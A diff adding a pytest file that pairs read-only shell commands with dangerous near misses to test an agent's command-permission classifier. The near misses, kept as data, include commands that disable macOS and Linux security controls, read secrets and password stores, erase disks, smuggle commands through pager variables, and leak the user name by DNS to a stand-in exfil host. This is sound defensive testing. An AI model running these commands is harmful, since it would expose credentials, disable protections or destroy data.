@@ -1,0 +1,238 @@
+"""Read-only commands are not asked about, and the command one step further is.
+
+Each pair is a realistic read-only command (rated safe: a pack proves every option, and no
+rule fires) and a near miss of the same program (an option, sub-command, script or variable
+that writes, runs a program, prints a secret or sends data), which must stay at least
+dangerous. The near misses are data: they are classified, never run.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+from engine.gate.classifier import Classifier
+from engine.gate.paths import is_system_program, is_tool_config
+from engine.gate.verdict import Level
+from engine.tools.call import ToolCall
+
+PAIRS = [
+    # Terraform: its configuration is tool configuration, so plan and validate run only what a person let in.
+    ("terraform plan", "terraform plan -out=tfplan"),
+    ("terraform plan -input=false -no-color -lock=false", "TF_CLI_ARGS_plan=-out=x terraform plan"),
+    ("terraform plan -destroy -no-color", "terraform apply -destroy"),
+    ("terraform plan -refresh-only -var 'region=eu-west-1' -var-file=prod.tfvars",
+     "terraform plan -generate-config-out=generated.tf"),
+    ("terraform -chdir=infra plan -target=module.vpc", "TF_CLI_CONFIG_FILE=dev.tfrc terraform plan"),
+    ("terraform validate", "TF_DATA_DIR=/tmp/tf terraform validate"),
+    ("terraform validate -json -no-color", "TF_PLUGIN_CACHE_DIR=/tmp/plugins terraform validate"),
+    ("terraform show", "terraform show -json"),
+    ("terraform show -no-color tfplan", "terraform show -json tfplan"),
+    ("terraform state show aws_instance.web", "terraform state pull"),
+    ("terraform state list -id=i-0abc", "terraform state rm aws_instance.web"),
+    ("terraform output", "terraform output -raw db_password"),
+    ("terraform graph -type=plan", "terraform console"),
+    ("terraform providers schema -json", "terraform providers lock"),
+    ("terraform workspace show", "terraform workspace select prod"),
+    ("tofu plan -no-color", "tofu apply"),
+    # Rules whose condition caught a read.
+    ("date -d @1700000000", "date -s @1700000000"),
+    ("date -d yesterday +%F", "date --set=yesterday"),
+    ("date --date='2 days ago' +%Y-%m-%d", "date 0101000020"),
+    ("aws sts get-caller-identity", "aws sts assume-role --role-arn arn:aws:iam::1:role/x --role-session-name s"),
+    ("doppler secrets --only-names", "doppler secrets"),
+    ("npm audit", "npm audit fix"),
+    ("npm audit --json --omit=dev", "npm audit fix --force"),
+    ("npm config list", "npm config set registry http://registry.example"),
+    ("npm config get registry", "npm config edit"),
+    ("npm pkg get name version", "npm pkg set name=x"),
+    ("npm outdated --long", "npm update"),
+    ("npm -v", "npm exec -- left-pad"),
+    ("nft list ruleset", "nft flush ruleset"),
+    ("nft -a list table inet filter", "nft add table inet x"),
+    ("auditctl -l", "auditctl -D"),
+    ("auditctl -s", "auditctl -e 0"),
+    ("csrutil status", "csrutil disable"),
+    ("spctl --status", "spctl --master-disable"),
+    ("spctl --assess -v /Applications/Safari.app", "spctl --add /Applications/Tool.app"),
+    ("security list-keychains", "security list-keychains -s other.keychain"),
+    ("security find-certificate -a -p", "security find-generic-password -wa service"),
+    ("certutil -hashfile setup.exe SHA256", "certutil -urlcache -f https://files.example/a.exe a.exe"),
+    ("zpool status -v tank", "zpool status -c smart tank"),
+    ("zpool iostat -v 5 3", "zpool iostat -c media"),
+    ("sqlite3 app.db .tables", "sqlite3 app.db '.shell id'"),
+    ("sqlite3 app.db '.schema users'", "sqlite3 app.db '.output dump.sql'"),
+    ("sqlite3 -readonly -header -column app.db 'SELECT id, name FROM users LIMIT 5'",
+     "sqlite3 app.db 'DELETE FROM users'"),
+    ("sqlite3 app.db 'select count(*) from orders where total > 100'", "sqlite3 app.db \"select writefile('x', 'y')\""),
+    ("sqlite3 -json app.db 'SELECT * FROM users' '.indexes users'", "sqlite3 -init setup.sql app.db .tables"),
+    ("psql -c '\\dt'", "psql -c 'drop table users'"),
+    ("psql -h db.internal -U app -d shop -c '\\d users'", "psql -c '\\! id'"),
+    ("psql -X -At -c 'SELECT count(*) FROM orders'", "psql -c 'SELECT pg_terminate_backend(42)'"),
+    ("psql -l", "psql -f migrate.sql"),
+    ("/usr/libexec/java_home -V", "/usr/libexec/PlistBuddy -c 'Delete :CFBundleName' Info.plist"),
+    ("/usr/libexec/PlistBuddy -c 'Print :CFBundleVersion' Info.plist", "tools/java_home -V"),
+    ("/opt/homebrew/bin/jq .name package.json", "/opt/homebrew/bin/../../../tmp/jq .name package.json"),
+    # Readers without a table until now.
+    ("fd -e py", "fd -e py -x rm"),
+    ("fd --type f --hidden --exclude node_modules config src", "fd -t f -X wc -l"),
+    ("fdfind -t d -d 2 src", "fdfind -e tmp --exec-batch echo"),
+    ("bat README.md", "bat --pager 'sh -c id' README.md"),
+    ("bat -n --style=plain --paging=never src/main.rs", "BAT_PAGER='sh -c id' bat README.md"),
+    ("batcat -p -l json data.json", "batcat --config-file=my.conf README.md"),
+    ("eza -la --git --group-directories-first", "eza -la > listing.txt"),
+    ("exa -l --tree --level=2", "exa -l --frobnicate"),
+    ("lsd -la --tree --depth 2", "lsd --config-file x.yaml"),
+    ("xmllint --noout pom.xml", "xmllint --output out.xml pom.xml"),
+    ("xmllint --xpath '//version/text()' pom.xml", "xmllint --shell pom.xml"),
+    ("xmllint --format --nonet config.xml", "xmllint --noent --xinclude evil.xml"),
+    ("gron data.json", "gron https://api.example/data.json"),
+    ("tokei", "tokei --frobnicate"),
+    ("tokei -o json src", "tokei src > counts.txt"),
+    ("cloc --by-file --exclude-dir=node_modules src", "cloc --extract-with='sh -c id' src.tar"),
+    ("scc --no-cocomo -f json .", "scc -o report.json ."),
+    ("units '1 mile' km", "units --log units.log '1 mile' km"),
+    ("bc -l <<< 'scale=2; 10/3'", "BC_ENV_ARGS=defs.bc bc -l <<< '1+1'"),
+    ("echo '2^10' | bc", "echo '2^10' | dc -e '!id'"),
+    ("getent passwd alice", "getent shadow alice"),
+    ("getent group docker", "getent hosts $(whoami).exfil.example"),
+    ("ulimit -a", "ulimit -n 1"),
+    ("ulimit -n", "ulimit -c unlimited"),
+    ("alias", "alias ls='rm -rf'"),
+    ("printenv HOME", "printenv AWS_SECRET_ACCESS_KEY"),
+    ("printenv PATH SHELL", "printenv"),
+    ("lsb_release -a", "lsb_release --frobnicate"),
+    # Packages.
+    ("rpm -qa", "rpm -e openssl"),
+    ("rpm -qi bash", "rpm -ivh pkg.rpm"),
+    ("rpm -ql openssl", "rpm -qa --dbpath /tmp/db"),
+    ("rpm -qf /usr/bin/ls", "rpm -q --qf '%{NAME}' --pipe 'sh' bash"),
+    ("dpkg-query -W -f='${Package}\\n'", "dpkg -i package.deb"),
+    # Keys and signatures.
+    ("ssh-add -l", "ssh-add ~/.ssh/id_rsa"),
+    ("ssh-add -L", "ssh-add -D"),
+    ("codesign -dv --verbose=4 /Applications/Safari.app", "codesign --force --sign - App.app"),
+    ("codesign --verify --deep --strict App.app", "codesign --remove-signature App.app"),
+    # macOS.
+    ("plutil -p Info.plist", "plutil -convert xml1 Info.plist"),
+    ("plutil -lint Info.plist", "plutil -replace CFBundleVersion -string 2 Info.plist"),
+    ("mdfind -name report.pdf", "mdutil -E /"),
+    ("mdls -name kMDItemContentType file.pdf", "mdls -name kMDItemContentType file.pdf > meta.txt"),
+    ("xcode-select -p", "xcode-select --switch /tmp/Xcode.app"),
+    ("xcrun --show-sdk-path", "xcrun clang main.c"),
+    ("otool -L /bin/ls", "otool -L /bin/ls > libs.txt"),
+    ("defaults read com.apple.dock", "defaults write com.apple.dock autohide -bool true"),
+    ("sw_vers -productVersion", "sw_vers --frobnicate"),
+    ("system_profiler SPHardwareDataType", "system_profiler -xml > hw.xml"),
+    ("scutil --get ComputerName", "scutil --set ComputerName mac"),
+    ("scutil --dns", "scutil --proxy-set"),
+    ("networksetup -listallhardwareports", "networksetup -setdnsservers Wi-Fi 1.1.1.1"),
+    ("networksetup -getinfo Wi-Fi", "networksetup -setairportpower en0 off"),
+    ("pmset -g batt", "pmset -a sleep 0"),
+    ("ioreg -l -w0", "ioreg -frobnicate"),
+    ("diskutil list", "diskutil eraseDisk APFS X disk2"),
+    # Linux system state.
+    ("lsmod", "rmmod e1000e"),
+    ("modinfo e1000e", "modprobe -r e1000e"),
+    ("dmidecode -t system", "dmidecode --dump-bin dmi.bin"),
+    ("busctl list", "busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager"
+                    " StopUnit ss sshd.service replace"),
+    ("resolvectl status", "resolvectl dns eth0 1.1.1.1"),
+    ("nmcli general status", "nmcli networking off"),
+    ("nmcli device show", "nmcli device disconnect eth0"),
+    ("nmcli connection show", "nmcli connection delete home"),
+    ("nmcli -t -f NAME,DEVICE con show --active", "nmcli -s connection show home"),
+    ("iwconfig", "iwconfig wlan0 essid open"),
+    ("ethtool eth0", "ethtool -s eth0 speed 100"),
+    ("ethtool -i eth0", "ethtool -K eth0 tso off"),
+    ("ifconfig -a", "ifconfig eth0 down"),
+    ("arp -an", "arp -d 10.0.0.1"),
+    ("route -n", "route add default gw 10.0.0.1"),
+    ("timedatectl status", "timedatectl set-time '2020-01-01'"),
+    ("hostnamectl", "hostnamectl set-hostname box"),
+    ("localectl status", "localectl set-locale LANG=C"),
+    ("loginctl list-users", "loginctl terminate-user bob"),
+    ("sysctl -n hw.ncpu", "sysctl -w net.ipv4.ip_forward=1"),
+    ("sysctl kern.ostype", "sysctl kernel.randomize_va_space=0"),
+    # Containers.
+    ("docker compose ps", "docker compose up -d"),
+    ("docker compose logs --tail=50 api", "docker compose exec api sh"),
+    ("docker network ls", "docker network rm backend"),
+    ("docker volume ls", "docker volume prune -f"),
+    ("docker system df", "docker system prune -af"),
+    ("docker network inspect bridge", "docker network connect bridge web"),
+    # Transfers to this machine with a trust store.
+    ("curl --cacert ca.pem https://localhost:8443/health", "curl --cacert ca.pem https://api.example/health"),
+    # Pager variables set to nothing or to cat print as the program would.
+    ("GIT_PAGER=cat git log -5", "GIT_PAGER='sh -c id' git log -5"),
+    ("PAGER=cat man ls", "PAGER=./pager man ls"),
+    ("AWS_PAGER='' aws s3 ls", "AWS_PAGER='sh -c id' aws s3 ls"),
+    ("SYSTEMD_PAGER= systemctl status nginx", "SYSTEMD_PAGER=./x systemctl status nginx"),
+]
+
+# Reads that stay asked about on purpose: they print secrets (the clipboard, a named Terraform output,
+# the environment, shell history), send a query to another host (DNS, ICMP), start an interactive
+# program that can kill processes, or capture other programs' traffic.
+STILL_ASKED = ["pbpaste", "terraform show -json tfplan", "terraform output db_password", "printenv", "env", "history",
+               "dig example.com", "ping -c 1 example.com", "getent hosts example.com", "htop",
+               "tcpdump -i any -c 10", "docker compose config", "nmcli -s connection show home"]
+
+WINDOWS_TOOL_CONFIG = ["ipconfig.bat", "tasklist.cmd", "tools\\where.exe", "Microsoft.PowerShell_profile.ps1",
+                       "profile.ps1", "Modules/Util/Util.psm1", "Modules/Util/Util.psd1", "run.vbs", "job.wsf",
+                       "ipconfig.com", "whoami.js", "hostname.py"]
+OTHER_TOOL_CONFIG = ["main.tf", "infra/modules/vpc/variables.tf", "main.tf.json", "prod.tfvars", "prod.tfvars.json",
+                     ".terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws",
+                     ".terraform", ".terraform.lock.hcl", ".terraformrc", "terraform.rc", "tests/main.tftest.hcl",
+                     "main.tofu", ".terraform.d/plugins/x", ".lesskey", ".less", ".ackrc", ".manpath", ".vault",
+                     ".sqliterc", ".psqlrc"]
+NOT_TOOL_CONFIG = ["src/app.py", "notes.txt", "README.md", "docs/terraform.md", "web/app.js", "scripts/build.py",
+                   "sites/example.com.conf", "main.tf.bak.txt"]
+
+
+@pytest.fixture(scope="module")
+def classifier() -> Classifier:
+    return Classifier()
+
+
+def _rate(classifier: Classifier, command: str):
+    return classifier.classify(ToolCall("shell.run", {"command": command}))
+
+
+@pytest.mark.parametrize(("command", "near_miss"), PAIRS)
+def test_read_only_command_is_safe_and_its_near_miss_is_not(classifier: Classifier, command: str,
+                                                            near_miss: str) -> None:
+    verdict = _rate(classifier, command)
+    assert verdict.level is Level.SAFE, f"{command!r}: {verdict}"
+    missed = _rate(classifier, near_miss)
+    assert missed.level >= Level.DANGEROUS, f"{near_miss!r}: {missed}"
+
+
+@pytest.mark.parametrize("command", STILL_ASKED)
+def test_reads_that_print_secrets_or_send_queries_stay_asked(classifier: Classifier, command: str) -> None:
+    assert _rate(classifier, command).level >= Level.DANGEROUS, command
+
+
+@pytest.mark.parametrize("path", [*OTHER_TOOL_CONFIG, *WINDOWS_TOOL_CONFIG])
+def test_configuration_a_proven_program_obeys_needs_a_person_to_write(classifier: Classifier, path: str) -> None:
+    """Terraform's configuration and providers, pager and database client start-up files, and
+    Windows programs and scripts cmd.exe would find in the working directory before its own
+    (`ipconfig.bat`, `whoami.js`): writing one is asked about, by file tool and by shell."""
+    assert is_tool_config(path), path
+    written = classifier.classify(ToolCall("fs.write", {"path": path, "content": "x"}))
+    assert written.level is Level.DANGEROUS and "fs.tool-config" in written.rules, f"{path}: {written}"
+    redirected = _rate(classifier, f"echo x > '{path}'")
+    assert "fs.write-tool-config" in redirected.rules, f"{path}: {redirected}"
+
+
+@pytest.mark.parametrize("path", NOT_TOOL_CONFIG)
+def test_ordinary_files_stay_ordinary(path: str) -> None:
+    assert not is_tool_config(path), path
+
+
+def test_system_program_directories_are_root_owned_trees() -> None:
+    assert is_system_program("/usr/libexec/java_home")
+    assert is_system_program("/usr/libexec/ApplicationFirewall/socketfilterfw")
+    assert is_system_program("/System/Library/PrivateFrameworks/Apple80211.framework/Resources/airport")
+    assert is_system_program("/opt/homebrew/bin/jq")
+    assert not is_system_program("/usr/libexec/../../tmp/x")
+    assert not is_system_program("/opt/tools/jq")
+    assert not is_system_program("/Systemx/ls")
